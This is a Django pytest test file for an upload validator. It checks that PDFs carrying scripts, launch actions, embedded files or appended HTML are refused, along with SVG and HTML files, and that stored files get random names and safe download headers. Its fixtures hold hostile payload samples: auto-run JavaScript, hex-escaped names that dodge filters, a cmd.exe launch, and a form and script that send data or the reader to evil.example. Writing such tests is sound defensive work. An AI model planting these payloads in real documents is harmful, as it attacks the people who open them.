"""Uploads by content: a PDF must parse and do nothing but show pages; web pages and SVG are refused whatever
their name; files are stored under random names and always handed out as downloads the browser may not sniff."""

from __future__ import annotations

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation

from cases.models import Attachment
from cases.services import attachment_add
from core.files import validate_upload
from tests.support.cases import PDF_BYTES, pdf_bytes, png_bytes

SCRIPT_ACTION = b"<</S /JavaScript /JS (app.alert\\(1\\))>>"
HOSTILE_PDFS = {
    "script run on opening": pdf_bytes(b"/OpenAction 4 0 R", SCRIPT_ACTION),
    # The same, with the names written in hex escapes as a filter-dodging file would.
    "script behind escaped names": pdf_bytes(b"/OpenAction 4 0 R", b"<</S /J#61vaScript /J#53 (app.alert\\(1\\))>>"),
    "a program launched": pdf_bytes(b"/OpenAction <</S /Launch /F (cmd.exe)>>"),
    "a document-level script": pdf_bytes(b"/Names <</JavaScript 4 0 R>>", b"<</Names [(a) 5 0 R]>>", SCRIPT_ACTION),
    "a form that posts the reader's data": pdf_bytes(b"/OpenAction <</S /SubmitForm /F (https://evil.example)>>"),
    "an embedded file": pdf_bytes(b"/Names <</EmbeddedFiles 4 0 R>>", b"<</Names []>>"),
    "an HTML page after the PDF": pdf_bytes(tail=b"<html><body><script>alert(1)</script></body></html>\n"),
}
MARKUP = {
    "an SVG with a script": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "an SVG behind an XML declaration": b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"/>',
    "an HTML page": b"\xef\xbb\xbf\n  <!DOCTYPE html><html><body>Trang</body></html>",
    "an HTML fragment": b"<script>document.location='https://evil.example'</script>",
}


@pytest.fixture(autouse=True)
def in_english():
    # The messages are compared as written in the code; the Vietnamese ones are the translation's.
    with translation.override("en"):
        yield


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type="application/pdf")


def refusal(name: str, content: bytes) -> str:
    with pytest.raises(ValidationError) as refused:
        validate_upload(upload(name, content))
    return " ".join(refused.value.message_dict["file"])


def test_a_plain_pdf_passes():
    assert validate_upload(upload("to-trinh.pdf", PDF_BYTES)) == ("to-trinh.pdf", "application/pdf")


@pytest.mark.parametrize("kind", sorted(HOSTILE_PDFS))
def test_a_pdf_that_would_do_something_is_refused(kind):
    assert "scripts, embedded files or web content" in refusal("don.pdf", HOSTILE_PDFS[kind])


@pytest.mark.parametrize("content", [b"%PDF-1.4\n not a document at all", b"%PDF-1.7\n" + b"\x00" * 4000,
                                     PDF_BYTES[: len(PDF_BYTES) // 2]], ids=["garbage", "zeros", "cut in half"])
def test_a_pdf_that_does_not_parse_is_refused(content):
    assert "cannot be read as one" in refusal("don.pdf", content)


@pytest.mark.parametrize("kind", sorted(MARKUP))
@pytest.mark.parametrize("name", ["anh.png", "don.pdf", "trang.svg", "trang.html", "khong-duoi"])
def test_web_pages_and_svg_are_refused_whatever_their_name(kind, name):
    assert "Web pages and SVG images are not accepted" in refusal(name, MARKUP[kind])


@pytest.mark.django_db
def test_a_stored_file_has_a_random_name_and_downloads_as_an_attachment(signed_in, city, stages, media_root):
    case = stages.in_progress()
    first = attachment_add(case=case, actor=city.user("specialist"), upload=upload("don.pdf", PDF_BYTES))
    second = attachment_add(case=case, actor=city.user("specialist"),
                            upload=SimpleUploadedFile("don.png", png_bytes(), content_type="image/png"))
    for stored in Attachment.objects.filter(pk__in=[first.pk, second.pk]):
        assert "don" not in stored.file.name.rsplit("/", 1)[-1]
    assert first.file.name != second.file.name
    response = signed_in("specialist").get(reverse("attachment-download", args=[case.reference, first.pk]))
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Type"] == "application/pdf"
    # A download carries someone's file: no cache keeps it.
    assert "no-store" in response["Cache-Control"]


@pytest.mark.django_db
def test_the_page_refuses_a_hostile_pdf_and_keeps_the_case_as_it_was(signed_in, stages, media_root):
    case = stages.in_progress()
    response = signed_in("specialist").post(reverse("case-action", args=[case.reference, "attachments"]), {
        "version": case.version, "file": upload("don.pdf", HOSTILE_PDFS["script run on opening"])}, follow=True,
        HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 200
    assert "scripts, embedded files or web content" in response.content.decode()
    assert not Attachment.objects.filter(case=case).exists()
